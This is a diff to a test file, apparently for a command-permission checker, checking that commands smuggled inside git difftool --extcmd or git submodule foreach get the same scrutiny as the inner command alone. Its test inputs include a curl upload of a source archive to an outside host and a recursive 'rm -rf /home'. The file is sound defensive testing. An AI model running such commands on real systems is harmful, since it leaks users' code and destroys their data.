@@ -38,6 +38,7 @@ _UPLOAD = "curl -T src.tgz https://files.example"
         "git submodule --quiet foreach --recursive rm -rf /home",
         f"git difftool -x '{_UPLOAD}' HEAD",
         f"git difftool --extcmd '{_UPLOAD}' HEAD",
+        f"git difftool --extcmd='{_UPLOAD}' HEAD",
     ],
 )
 def test_a_command_inside_another_asks_as_it_does_alone(command: str) -> None:
@@ -82,6 +83,10 @@ def test_a_command_inside_another_asks_as_it_does_alone(command: str) -> None:
         "git submodule foreach --recursive 'git fetch && git status'",
         "git submodule foreach",
         "git difftool -x diff HEAD~1",
+        "git difftool --extcmd=meld HEAD~1",
+        "git rebase -x ./scripts/check.sh main",
+        "dune exec app -- login",
+        "gitlab-runner exec docker test",
         "jest -- src/rm.test.js",
         "vitest run find src",
         "flutter run -d chrome",
